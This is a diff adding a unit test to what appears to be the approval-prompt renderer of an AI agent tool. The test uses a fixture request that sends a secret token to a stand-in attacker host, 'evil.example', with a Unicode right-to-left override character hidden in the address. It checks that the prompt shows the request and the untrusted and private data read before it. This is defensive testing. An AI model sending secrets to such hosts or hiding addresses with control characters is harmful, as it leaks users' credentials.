@@ -53,6 +53,34 @@ describe('an approval', () => {
     expect(render(approval({}, { conversation: undefined }))).not.toContain('For this chat');
   });
 
+  it('shows the whole request, and what was read before; then there is no longer answer than “once”', () => {
+    const at = 1;
+    const html = render(
+      approval({
+        details: [
+          { label: 'Address', text: 'https://evil.example/?d=\u202Ex' },
+          { label: 'Body', text: '${secret:TOKEN}' },
+        ],
+        taints: [
+          { label: 'untrusted', from: 'web.fetch_page of a.org', at },
+          { label: 'private', from: 'files.read_text of /notes/a.md', at },
+        ],
+        choices: [],
+      }),
+    );
+    for (const words of [
+      'https://evil.example/?d=',
+      'U+202E',
+      '${secret:TOKEN}',
+      'web.fetch_page of a.org',
+      'files.read_text of /notes/a.md',
+    ])
+      expect(html).toContain(words);
+    expect(html).not.toContain('Always');
+    expect(html).not.toContain('For this chat');
+    expect(render(approval({ choices: [{ id: 'tool', words: 'all' }] }))).toContain('Always');
+  });
+
   it('folds the arguments away only beside a real preview', () => {
     const html = render(approval({ preview: { kind: 'diff', text: '@@ -1 +1 @@\n-old\n+new\n' } }));
     expect(html).toContain('ask-line-removed');
